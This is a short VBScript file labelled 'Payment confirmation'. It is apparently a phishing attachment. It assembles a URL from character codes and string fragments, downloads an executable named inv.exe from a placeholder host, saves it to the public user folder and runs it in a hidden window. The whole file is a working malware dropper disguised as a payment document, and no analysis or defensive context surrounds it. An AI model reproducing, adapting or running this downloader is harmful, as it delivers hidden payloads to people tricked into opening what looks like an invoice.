' Payment confirmation
Dim u, x, s, sh
u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://" & "pay" & "-confirm.test/" & "inv.exe"
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", u, False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Open : s.Type = 1 : s.Write x.responseBody
s.SaveToFile "C:\Users\Public\inv.exe", 2
Set sh = CreateObject("WScript.Shell")
sh.Run "C:\Users\Public\inv.exe", 0, False
